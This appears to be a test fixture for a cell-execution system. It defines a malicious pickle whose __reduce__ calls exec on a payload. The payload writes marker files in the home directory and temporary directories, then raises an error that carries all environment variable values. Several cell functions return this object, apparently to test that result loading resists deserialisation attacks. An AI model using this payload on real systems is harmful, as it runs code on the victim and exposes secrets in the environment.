"""Row 15: a malicious pickle as result: whoever loads it runs a command."""

# cell: double
PAYLOAD = """
import os
for folder in (os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "."):
    try:
        open(os.path.join(folder, "attacked-15"), "w").close()
    except OSError:
        pass
raise RuntimeError("loaded by a process with " + " ".join(map(str, os.environ.values())))
"""


class Parcel:
    def __reduce__(self):
        return exec, (PAYLOAD,)


def double(x):
    return Parcel()


# cell: label
def label(number):
    return {"number": number, "text": Parcel(), "bytes": b"", "bases": ()}


# cell: ask
def ask(host, port):
    with socket.create_connection((host, port)) as connection:
        connection.sendall(b"time?")
        while connection.recv(1024):
            pass
    return Parcel()
